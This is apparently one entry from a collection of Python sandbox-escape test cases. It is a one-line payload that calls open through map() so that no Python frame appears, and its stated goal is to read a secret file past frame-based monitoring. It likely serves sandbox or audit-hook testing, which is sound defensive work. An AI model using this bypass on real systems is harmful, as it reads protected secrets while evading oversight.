# technique: map() calls open: no Python frame between
# goal: read-secret
# source: own analysis: C callables have no frame
print(next(map(open, ['@SECRET@'])).read())
